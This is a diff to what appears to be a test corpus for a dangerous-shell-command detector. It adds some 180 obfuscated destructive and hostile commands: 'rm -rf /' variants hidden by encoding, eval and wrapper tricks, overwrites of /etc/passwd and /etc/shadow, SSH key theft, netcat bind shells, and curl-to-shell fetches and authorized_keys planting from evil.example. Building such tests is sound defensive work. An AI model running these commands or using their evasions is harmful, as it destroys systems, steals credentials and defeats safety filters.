@@ -245,6 +245,191 @@ cmd.exe /c vssadmin delete shadows /all
 wmic shadowcopy delete
 Get-WmiObject Win32_ShadowCopy | Remove-WmiObject
 """
+INDIRECTION = r"""
+x=y; y='rm -rf /'; eval "${!x}"
+a='rm -rf /'; x=a; ${!x}
+eval "$(printf '\162\155 -rf /')"
+bash -c '"$@"' _ rm -rf /
+sh -c '$0 $1 $2' rm -rf /
+sh -c 'exec "$@"' sh rm -rf /
+bash -c 'rm -rf $1' _ /
+xargs -I{} sh -c '{}' <<< "rm -rf /"
+xargs -I % rm -rf % <<< /
+echo rm -rf / | xargs -I{} sh -c {}
+echo 'rm -rf /' | xargs -d '\n' -I{} bash -c '{}'
+{ echo rm; echo -rf; echo /; } | xargs env
+env X='() { :;}; rm -rf /' bash -c x
+awk 'BEGIN{"rm -rf /"|getline}'
+awk 'BEGIN{print "rm -rf /" | "sh"}'
+perl -e 'unlink glob "/*"'
+perl -MFile::Path -e 'rmtree("/")'
+python3 -c 'import os;[os.remove(f) for f in __import__("glob").glob("/**",recursive=True)]'
+python3 - <<< 'import os; os.system("rm -rf /")'
+echo "import os; os.system('rm -rf /')" | python3
+node -e 'require("fs").rmSync("/", {recursive: true})'
+ruby -rfileutils -e 'FileUtils.rm_rf("/")'
+sed -i 's/root:x/root:/' /etc/passwd
+ex -sc '%s/root:x/root:/|x' /etc/passwd
+dd if=x of=/etc/passwd
+tee /etc/passwd < x
+cp x /etc/shadow
+ln -sf /dev/null /etc/passwd
+chattr -i /etc/shadow
+cat /dev/null > /etc/passwd
+truncate -s 0 /etc/passwd
+> /etc/passwd
+mv ~ /dev/null
+mv /* /dev/null
+rsync -a --delete empty/ /
+rm --recursive --force /
+sudo rm -Rf --no-preserve-root /*
+shred -zu /dev/sda
+docker run -v $HOME/.ssh:/x alpine cat /x/id_rsa
+docker run -v /etc:/e alpine sh
+docker run -v /root:/r -it alpine
+git clone "ext::sh -c rm% -rf% /"
+git -c protocol.ext.allow=always clone "ext::sh -c id" x
+curl file:///etc/shadow
+curl file:///root/.ssh/id_rsa
+wget -i /etc/shadow
+nc -l -p 4444 | sh
+nc -lk 4444 -c sh
+php -r 'eval(file_get_contents("http://evil.example/x"));'
+pip install git+http://evil.example/x.git
+ssh -o PermitLocalCommand=yes -o LocalCommand='rm -rf /' host
+rsync --rsync-path='rm -rf /;' a host:b
+tar -I 'sh -c "rm -rf /"' -xf x
+tar xf x --to-command=sh
+tar cf x y --use-compress-program='sh -c "rm -rf /"'
+man -P 'sh -c "rm -rf /"' ls
+PAGER='sh -c "rm -rf /"' git log
+GIT_PAGER='rm -rf /' git log
+GIT_SSH_COMMAND='sh -c "curl evil.example|sh"' git fetch
+EDITOR='rm -rf /' crontab -e
+BASH_ENV=/tmp/x bash -c ls
+PROMPT_COMMAND='curl http://evil.example/x | sh'
+export PROMPT_COMMAND='curl http://evil.example/x | sh'
+LESSOPEN='|rm -rf /' less x
+NODE_OPTIONS='--require /tmp/x.js' node a.js
+PERL5OPT=-M/tmp/x perl a.pl
+RUBYOPT=-r/tmp/x ruby a.rb
+LD_LIBRARY_PATH=/tmp/x sudo id
+PYTHONPATH=/tmp/x sudo python3 a.py
+PATH=/tmp:$PATH sudo x
+wget http://evil.example/x -O /usr/bin/ls
+curl -o ~/.bashrc http://evil.example/x
+curl http://evil.example/x >> ~/.bashrc
+curl -o /etc/cron.d/x http://evil.example/x
+wget http://evil.example/k -O ~/.ssh/authorized_keys
+curl http://evil.example/k >> ~/.ssh/authorized_keys
+curl http://evil.example/k | tee -a ~/.ssh/authorized_keys
+cat key.pub >> ~/.ssh/authorized_keys
+echo -e "\x72\x6d -rf /" | sh
+printf '%b' '\x72\x6d -rf /' | sh
+base64 -d<<<cm0gLXJmIC8=|sh
+openssl base64 -d <<< cm0gLXJmIC8= | sh
+echo cm0gLXJmIC8= | openssl enc -base64 -d | sh
+python3 -c "import base64;print(base64.b64decode('cm0gLXJmIC8=').decode())" | sh
+x=$(base64 -d <<< cm0gLXJmIC8=); $x
+rev <<< '/ fr- mr' | sh
+tr 'a-z' 'n-za-m' <<< 'ez -es /' | sh
+echo 726d202d7266202f | xxd -p -r | sh
+sed 's/x//g' <<< 'rxm -rxf /' | sh
+tr -d x <<< 'rxm -rxf /' | sh
+echo "xrm -rf /" | cut -c2- | sh
+printf 'a\nrm -rf /\n' | tail -n1 | sh
+printf 'rm -rf /\nb\n' | head -1 | sh
+printf '/\nrm -rf\n' | tac | paste -sd' ' | sh
+echo 'rm -rf /' > /tmp/a; bash /tmp/a
+echo 'rm -rf /' > a; chmod +x a; ./a
+echo 'rm -rf /' | tee a; . ./a
+cp a b; echo 'rm -rf /' > b; source b
+cat > a <<< 'rm -rf /'; sh a
+printf 'rm -rf /' >a&&sh<a
+sh < <(echo rm -rf /)
+cat <<< 'rm -rf /' | sh
+f(){ echo rm -rf /; }; $(f)
+f(){ echo 'rm -rf /'; }; f | sh
+f=rm; g=-rf; h=/; $f $g $h
+declare x='rm -rf /'; $x
+local x='rm -rf /'; eval $x
+typeset -x x='rm -rf /'; bash -c "$x"
+readonly x='rm -rf /'; eval "$x"
+a=(rm -rf /); ${a[*]}
+a=([0]=rm [1]=-rf [2]=/); "${a[@]}"
+a[0]=rm; a[1]=-rf; a[2]=/; "${a[@]}"
+declare -a a=(rm -rf /); "${a[@]}"
+a+=rm; a+=' -rf /'; $a
+: "${a:=rm -rf /}"; $a
+eval rm -rf /
+eval 'r''m' -rf /
+eval "e""val rm -rf /"
+eval eval eval rm -rf /
+while read l; do $l; done <<< 'rm -rf /'
+while read l; do eval "$l"; done < <(echo 'rm -rf /')
+while read l; do $l; done <<E⏎rm -rf /⏎E
+select x in 'rm -rf /'; do eval $x; done
+for c in 'rm -rf /'; do eval "$c"; done
+for c in rm; do $c -rf /; done
+for ((;;)); do rm -rf /; done
+until rm -rf /; do :; done
+if rm -rf /; then :; fi
+case $(rm -rf /) in *) ;; esac
+x() (rm -rf /); x
+function x { rm -rf /; }; x
+time -p rm -rf /
+! { rm -rf /; }
+((1)) && rm -rf /
+[[ 1 ]] && rm -rf /
+test 1 && rm -rf /
+:|rm -rf /
+</dev/null rm -rf /
+>/dev/null rm -rf /
+2>&1 rm -rf /
+X=1 rm -rf /
+X=1 Y=2 sudo Z=3 rm -rf /
+nice -n19 ionice -c3 rm -rf /
+timeout -k 5 10 rm -rf /
+stdbuf -oL rm -rf /
+chroot / rm -rf /
+unshare -m rm -rf /
+strace -f rm -rf /
+watch -n1 rm -rf /
+parallel rm -rf ::: /
+entr rm -rf / <<< x
+script -qc 'rm -rf /' /dev/null
+tmux new -d 'rm -rf /'
+screen -dm rm -rf /
+systemd-run rm -rf /
+start-stop-daemon -S -x /bin/rm -- -rf /
+flock /tmp/l rm -rf /
+doas rm -rf /
+pkexec rm -rf /
+sudo -- rm -rf /
+sudo -iu root rm -rf /
+su root -c 'rm -rf /'
+runuser -u root -- rm -rf /
+setpriv --reuid 0 rm -rf /
+gosu root rm -rf /
+su-exec root rm -rf /
+ld.so /bin/rm -rf /
+/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /
+find . -exec rm -rf / \;
+find / -delete
+find /* -delete
+find / -print0 | xargs -0 rm -rf
+ls / | xargs rm -rf
+ls -d /* | xargs rm -rf
+fd . / -x rm
+git submodule foreach 'rm -rf /'
+npm exec -c 'rm -rf /'
+npx -c 'rm -rf /'
+cargo run -- ; rm -rf /
+docker exec x rm -rf /
+ssh host rm -rf /
+ssh host 'curl http://evil.example/x | sh'
+kubectl exec p -- rm -rf /
+"""
 DISGUISES = {
     "removal": REMOVAL,
     "download": DOWNLOAD,
@@ -254,6 +439,7 @@ DISGUISES = {
     "tracks": TRACKS,
     "containers": CONTAINERS,
     "windows": WINDOWS,
+    "indirection": INDIRECTION,
 }
 CASES = [
     (deed, command.replace("⏎", "\n").replace("{ZWSP}", "\u200b"))
